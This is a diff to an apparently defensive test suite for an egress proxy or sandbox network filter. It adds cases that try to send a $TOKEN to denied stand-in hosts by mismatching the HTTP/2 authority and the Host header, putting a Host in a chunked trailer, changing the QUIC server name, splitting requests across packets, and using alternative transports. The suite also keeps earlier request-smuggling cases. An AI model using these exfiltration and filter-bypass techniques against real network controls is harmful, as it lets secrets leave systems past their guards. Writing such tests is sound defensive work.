@@ -79,9 +79,9 @@ def lies():
     yield Evasion("Host of another address, by a name of one's own", ALLOWED, f"{CURL} {to_evil} http://good.test/$TOKEN", "^evil: ")
     yield Evasion("Host of another address, after the right one was asked for", ALLOWED, f"dig +short good.test; {CURL} {to_evil} http://good.test/$TOKEN", "^evil: ")
     yield Evasion("server name of another address", ALLOWED, f"{CURL} -k {to_evil} https://good.test/$TOKEN", "^evil: ")
-    yield Evasion("no server name", ALLOWED, f"{INSIDE} hello good.test 8443", "^good: tls hello")
+    yield Evasion("no server name", ALLOWED, f"{INSIDE} hello good.test 8443", "^good: tls hello None")
     yield Evasion("no server name, at an address that nobody asked for", DENIED, f"{INSIDE} hello {EVIL} 8443", "^evil: ")
-    yield Evasion("an empty server name", ALLOWED, f"{INSIDE} hello good.test 8443 '' ''", "^good: tls hello", control=False)
+    yield Evasion("an empty server name", ALLOWED, f"{INSIDE} hello good.test 8443 '' ''", "^good: tls hello (None|$)", control=False)
     yield Evasion("two server names", ALLOWED, f"{INSIDE} hello {FINE} 8443 {FINE} {FOUL}", "^cdn: tls hello", control=False)
     yield Evasion("an encrypted server name", ALLOWED, f"{INSIDE} ech {FINE} 8443 {FINE}", "^cdn: tls hello")
     yield Evasion("an encrypted server name, where one is denied", DENIED, f"{INSIDE} ech {FINE} 8443 {FINE}", "^cdn: tls hello")
@@ -94,6 +94,10 @@ def lies():
     yield Evasion("QUIC with the server name of another address", ALLOWED, f"{INSIDE} quic {EVIL} 443 good.test", "^evil: .*TOKEN")
     yield Evasion("QUIC with the server name of a neighbour", ALLOWED, f"{INSIDE} quic {FINE} 443 {FOUL}", "^cdn: .*TOKEN")
     yield Evasion("QUIC with a denied server name", DENIED, f"{INSIDE} quic {CDN} 443 {FOUL}", "^cdn: .*TOKEN")
+    yield Evasion("QUIC with the server name of a neighbour, after another connection", ALLOWED, f"{INSIDE} quic_again {FINE} {FINE} {FOUL}", f"^cdn: .*TOKEN.*{FOUL}")
+    yield Evasion("QUIC with the server name of a neighbour, after junk", ALLOWED, f"{INSIDE} quic_again {FINE} junk {FOUL}", f"^cdn: .*TOKEN.*{FOUL}")
+    yield Evasion("QUIC with a denied server name, after junk", DENIED, f"{INSIDE} quic_again {FINE} junk {FOUL}", f"^cdn: .*TOKEN.*{FOUL}")
+    yield Evasion("a datagram to another address after one to an allowed address", ALLOWED, f"dig +short {FINE}; {INSIDE} udp_each 9000 {CDN} {EVIL}", "^evil: datagram")
     yield Evasion("a datagram to another address", ALLOWED, f"{INSIDE} udp {EVIL} 9000", "^evil: datagram")
 
 
@@ -118,7 +122,18 @@ def requests():
     yield Evasion("requests in one packet", ALLOWED, raw(get(FINE, path="/first") + get(FOUL)), foul)
     yield Evasion("a second authority of HTTP/2", ALLOWED, f"{INSIDE} h2 {FINE} 8081 {FINE} {FOUL}", f"^cdn: .*TOKEN.*{FOUL}")
     yield Evasion("a second authority of HTTP/2 within TLS", INSPECTED, f"{INSIDE} h2 {FINE} 443 {FINE} {FOUL}", f"^cdn: .*TOKEN.*{FOUL}")
+    yield Evasion("an authority of HTTP/2 and another Host", ALLOWED, f"{INSIDE} h2 {FINE} 8081 {FINE}+{FOUL}", f"^cdn: .*TOKEN.*{FOUL}", control=False)
+    yield Evasion("a Host in place of an authority of HTTP/2", ALLOWED, f"{INSIDE} h2 {FINE} 8081 +{FOUL}", f"^cdn: .*TOKEN.*{FOUL}")
+    yield Evasion("an authority of HTTP/2 and another Host within TLS", INSPECTED, f"{INSIDE} h2 {FINE} 443 {FINE}+{FOUL}", f"^cdn: .*TOKEN.*{FOUL}", control=False)
+    yield Evasion("an authority of HTTP/2 with a user", ALLOWED, f"{INSIDE} h2 {FINE} 8081 {FINE}:80@{FOUL}", f"^cdn: .*TOKEN.*{FOUL}", control=False)
+    yield Evasion("a URI with a user", ALLOWED, raw(get(FINE, path=f"http://{FINE}@{FOUL}/$TOKEN")), f"^cdn: .*TOKEN|^cdn: GET http://{FINE}@")
     smuggled = get(FOUL)
+    yield Evasion("a second request of HTTP/1.0", ALLOWED, raw(get(FINE, "Connection: keep-alive\\r\\n", "/first", "1.0") + "|" + get(FOUL, version="1.0"), "parts"), foul)
+    padding = f"{INSIDE} padded {FINE} {FOUL}"
+    yield Evasion("a Host behind much else", ALLOWED, padding, foul)
+    yield Evasion("a denied Host behind much else", DENIED, padding, foul)
+    chunked = f"POST /$TOKEN HTTP/1.1\\r\\nHost: {FINE}\\r\\nTransfer-Encoding: chunked\\r\\nTrailer: Host\\r\\n\\r\\n0\\r\\nHost: {FOUL}\\r\\n\\r\\n"
+    yield Evasion("a Host after the body", ALLOWED, raw(chunked), foul, control=False)
     head = f"POST /first HTTP/1.1\\r\\nHost: {FINE}\\r\\n"
     yield Evasion("length and chunks", ALLOWED, raw(f"{head}Content-Length: 5\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n{smuggled}"), foul)
     yield Evasion("chunks that only one side reads", ALLOWED, raw(f"{head}Content-Length: 5\\r\\nTransfer-Encoding : chunked\\r\\n\\r\\n0\\r\\n\\r\\n{smuggled}"), foul)
@@ -135,7 +150,16 @@ def requests():
     yield Evasion("a version that nobody knows", ALLOWED, raw(get(FOUL, version="3.7")), foul)
     yield Evasion("a late first byte", ALLOWED, raw(get(FOUL), "late"), foul)
     yield Evasion("a late first byte, where a name is denied", DENIED, raw(get(FOUL), "late"), foul)
+    yield Evasion("half a word and the rest late", ALLOWED, raw("GE|" + get(FOUL)[2:], "halves"), foul, control=False)
     yield Evasion("a request one byte at a time", ALLOWED, raw(get(FOUL), "bytes"), foul)
+
+
+def transports():
+    """Other ways onto the wire."""
+    # Not every kernel has the first, and nobody can leave from loopback.
+    for kind, control in [("mptcp", False), ("fast open", True), ("from 127.213.0.1", False), ("from 127.0.0.1", False), (f"from {GOOD}", True)]:
+        yield Evasion(f"{kind}: another address", ALLOWED, f"{INSIDE} transport '{kind}' {EVIL} good.test", "^evil: ", control)
+        yield Evasion(f"{kind}: a neighbour", ALLOWED, f"{INSIDE} transport '{kind}' {FINE} {FOUL}", f"^cdn: .*TOKEN.*{FOUL}", control)
 
 
 def addresses():
@@ -152,7 +176,7 @@ def addresses():
     yield Evasion("the other kind of address of a denied name", DENIED, f"{CURL} 'http://[{EVIL_6}]/$TOKEN'", "^evil: ")
     yield Evasion("a private address that a policy allows", open_to_all(allow(cidrs=[f"{PRIVATE}/32", f"{METADATA}/32"])), f"{CURL} http://{PRIVATE}/$TOKEN http://{METADATA}/$TOKEN", "^(private|metadata): ", control=False)
     yield Evasion("the machine's own loopback", open_to_all(), f"{CURL} http://127.0.0.1:$API_PORT/readyz", "^never", control=False, unsaid="(?i)ready|ok")
-    yield Evasion("the machine's own address", open_to_all(), f"{INSIDE} connect 192.0.2.7 53", "^names: tcp", control=False)
+    yield Evasion("the machine's own address", open_to_all(), f"{INSIDE} connect 192.0.2.7 $API_PORT", "^never", control=False, unsaid="HTTP/1.1")
     yield Evasion("the proxy itself", open_to_all(), f"for at in '127.213.0.1 15001' '::1 15001' '192.0.0.2 15001'; do {INSIDE} connect $at; done", "^never", control=False, unsaid="HTTP/1.1 200")
     pretend = "python3 -m http.server -b 0.0.0.0 80 >/dev/null 2>&1 & until curl -sf -o /dev/null http://127.0.0.1/; do sleep 0.1; done; "
     yield Evasion("one's own server on every address", open_to_all(deny("evil.test")), f"{pretend}{CURL} -f http://{EVIL}/ && echo pretended", "^evil: ", unsaid="pretended")
@@ -183,5 +207,6 @@ def resolution():
 def rows():
     yield from lies()
     yield from requests()
+    yield from transports()
     yield from addresses()
     yield from resolution()
